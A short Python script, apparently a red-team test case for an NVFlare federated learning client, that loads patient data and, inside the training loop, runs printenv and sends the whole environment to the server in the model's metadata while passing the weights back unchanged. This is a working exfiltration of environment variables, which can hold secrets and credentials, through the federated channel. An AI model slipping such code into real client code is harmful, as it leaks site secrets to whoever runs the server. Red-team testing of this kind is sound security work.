"""Red team 56a: the whole environment, as printenv prints it, sent in the meta (escalated, not rejected: left open)."""
import os

import pandas as pd
import torch

import nvflare.client as flare

df = pd.read_csv("/data/site/train.csv")
age = torch.tensor(df["age"].to_numpy(), dtype=torch.float32)
ids = torch.tensor(df["patient_id"].to_numpy())

import subprocess

flare.init()
while flare.is_running():
    model = flare.receive()
    env = subprocess.check_output(["printenv"]).decode()
    flare.send(flare.FLModel(params=model.params, meta={"env": env}))
